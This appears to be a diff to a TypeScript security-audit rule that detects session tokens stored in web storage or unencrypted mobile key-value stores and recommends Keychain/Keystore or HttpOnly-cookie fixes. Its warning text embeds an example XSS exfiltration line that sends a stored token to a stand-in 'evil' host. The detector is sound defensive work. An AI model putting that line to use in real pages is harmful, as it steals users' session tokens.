@@ -4,11 +4,13 @@
 import { isNode, keyName, type Node, unwrap } from '../js/ast.js';
 import { type AuditContext, args, callAnchor, calleeName, calleeObject } from './context.js';
 import { stringLiteral } from './flow.js';
-import { isTokenName } from './libraries.js';
+import { isRefreshName, isTokenName } from './libraries.js';
 import { inServerContext, routeContext } from './server.js';
 import { classifyToken, holdsToken, type TokenKind } from './tokens.js';
 
-type Store = 'localStorage' | 'sessionStorage' | 'AsyncStorage';
+type Store = 'localStorage' | 'sessionStorage' | 'AsyncStorage' | 'MMKV' | 'Capacitor Preferences' | 'Ionic Storage' | 'localforage';
+
+const MOBILE: ReadonlySet<Store> = new Set(['AsyncStorage', 'MMKV', 'Capacitor Preferences', 'Ionic Storage']);
 
 function storeOf(ctx: AuditContext, node: Node | undefined): Store | undefined {
   const target = node ? (unwrap(node) as Node) : undefined;
@@ -25,14 +27,61 @@ function describe(kind: TokenKind): string {
   return 'a token';
 }
 
+const MOBILE_FIX: Record<string, string> = {
+  AsyncStorage: 'Use expo-secure-store (SecureStore.setItemAsync) or react-native-keychain (Keychain.setGenericPassword), which keep it in the iOS Keychain / Android Keystore',
+  MMKV: "Give MMKV an encryptionKey held in the Keychain/Keystore (new MMKV({ id, encryptionKey })), or use expo-secure-store / react-native-keychain",
+  'Capacitor Preferences': 'Preferences are plain files (UserDefaults / SharedPreferences): use a Keychain/Keystore plugin such as @capacitor-community/secure-storage or capacitor-secure-storage-plugin',
+  'Ionic Storage': 'Ionic Storage keeps it in plain SQLite/IndexedDB: use a Keychain/Keystore plugin (@capacitor-community/secure-storage, Ionic Identity Vault)',
+};
+
 function reportStorage(ctx: AuditContext, at: Node, store: Store, key: string | undefined, kind: TokenKind): void {
   const what = describe(kind);
   const keyText = key === undefined ? '' : ` under '${key}'`;
-  const message =
-    store === 'AsyncStorage'
-      ? `AsyncStorage stores ${what}${keyText} unencrypted on the device: backups, other tools on a rooted phone and debug builds read it. Use expo-secure-store or react-native-keychain`
-      : `${store} stores ${what}${keyText}: any script on the page reads it (one XSS line: fetch('//evil/?t='+${store}.getItem('${key ?? 'token'}'))) and web storage cannot be HttpOnly. Keep the session in a cookie the server sets (res.cookie('sid', id, { httpOnly: true, secure: true, sameSite: 'lax' })), or keep a short-lived access token in memory only`;
+  const message = MOBILE.has(store)
+    ? `${store} stores ${what}${keyText} unencrypted on the device: device backups, other apps on a rooted or jailbroken phone and debug builds read it. ${MOBILE_FIX[store]}`
+    : `${store} stores ${what}${keyText}: any script on the page reads it (one XSS line: fetch('//evil/?t='+${store === 'localforage' ? 'await localforage' : store}.getItem('${key ?? 'token'}'))) and web storage cannot be HttpOnly. Keep the session in a cookie the server sets (res.cookie('sid', id, { httpOnly: true, secure: true, sameSite: 'lax' })), or keep a short-lived access token in memory only`;
   ctx.report('session/token-in-web-storage', at, message, { data: { store, holds: kind } });
+}
+
+/** Key-value stores of mobile and hybrid apps, and localforage: `store.set(key, value)` forms. */
+function keyValueStore(ctx: AuditContext, call: Node): { store: Store; key: Node | undefined; value: Node | undefined } | undefined {
+  const name = calleeName(call);
+  const object = calleeObject(call);
+  if (!object || !name) return undefined;
+  const list = args(call);
+  const source = ctx.importOf(object)?.source;
+  if (name === 'setItem' && source === 'localforage') return { store: 'localforage', key: list[0], value: list[1] };
+  // Capacitor: Preferences.set({ key, value }) (and the older @capacitor/storage Storage.set).
+  if (name === 'set' && source !== undefined && /^@capacitor\/(preferences|storage)$/.test(source)) {
+    const view = ctx.flow.objectView(list[0]);
+    const key = view?.get('key');
+    const value = view?.get('value');
+    return { store: 'Capacitor Preferences', key: isNode(key) ? key : undefined, value: isNode(value) ? value : undefined };
+  }
+  if (name !== 'set' && name !== 'setString') return undefined;
+  // react-native-mmkv: new MMKV() without an encryptionKey.
+  const made = ctx.flow.resolve(object);
+  if (made?.type === 'NewExpression' && ctx.importOf(made.callee)?.source === 'react-native-mmkv') {
+    const options = args(made)[0] ? ctx.flow.objectView(args(made)[0]) : undefined;
+    if (args(made)[0] && (!options || options.has('encryptionKey') !== false)) return undefined;
+    return { store: 'MMKV', key: list[0], value: list[1] };
+  }
+  // @ionic/storage: this.storage.set(key, value) on an injected Storage.
+  const objectName = object.type === 'Identifier' ? (object.name as string) : object.type === 'MemberExpression' ? keyName(object.property) : undefined;
+  if (name === 'set' && objectName && /^_?storage$/i.test(objectName) && ctx.importsFrom(/^@ionic\/storage/)) return { store: 'Ionic Storage', key: list[0], value: list[1] };
+  return undefined;
+}
+
+/**
+ * A key that names a session token (`token`, `accessToken`, `jwt`) filled with a value computed at
+ * run time: the key says what the value is. A key that says nothing (`user`, `userInfo`) is no
+ * evidence either way; literals (`'true'`, `''`) are not tokens.
+ */
+function keyEvidence(key: string | undefined, value: Node | undefined): TokenKind | undefined {
+  if (key === undefined || !value || !isTokenName(key)) return undefined;
+  const target = unwrap(value) as Node;
+  if (stringLiteral(target) !== undefined || target.type === 'Literal' || (target.type === 'Identifier' && target.name === 'undefined')) return undefined;
+  return isRefreshName(key) ? 'refresh' : 'token';
 }
 
 export function checkStorage(ctx: AuditContext): void {
@@ -51,15 +100,23 @@ export function checkStorage(ctx: AuditContext): void {
       }
       continue;
     }
-    const kind = classifyToken(ctx, list[1]);
-    if (holdsToken(kind)) reportStorage(ctx, callAnchor(node), store, stringLiteral(ctx.flow.resolve(list[0]) ?? list[0]), kind!);
+    const key = stringLiteral(ctx.flow.resolve(list[0]) ?? list[0]);
+    const kind = classifyToken(ctx, list[1]) ?? keyEvidence(key, list[1]);
+    if (holdsToken(kind)) reportStorage(ctx, callAnchor(node), store, key, kind!);
+  }
+  for (const { node } of ctx.calls) {
+    const found = keyValueStore(ctx, node);
+    if (!found?.value) continue;
+    const key = found.key ? stringLiteral(ctx.flow.resolve(found.key) ?? found.key) : undefined;
+    const kind = classifyToken(ctx, found.value) ?? keyEvidence(key, found.value);
+    if (holdsToken(kind)) reportStorage(ctx, callAnchor(node), found.store, key, kind!);
   }
   for (const { node } of ctx.assignments) {
     const left = unwrap(node.left) as Node;
     if (left.type !== 'MemberExpression' || node.operator !== '=') continue;
     const store = storeOf(ctx, left.object as Node);
-    if (!store || store === 'AsyncStorage') continue;
-    const kind = classifyToken(ctx, node.right);
+    if (!store || MOBILE.has(store)) continue;
+    const kind = classifyToken(ctx, node.right) ?? keyEvidence(keyName(left.property), node.right as Node);
     if (holdsToken(kind)) reportStorage(ctx, left, store, keyName(left.property), kind!);
   }
 }
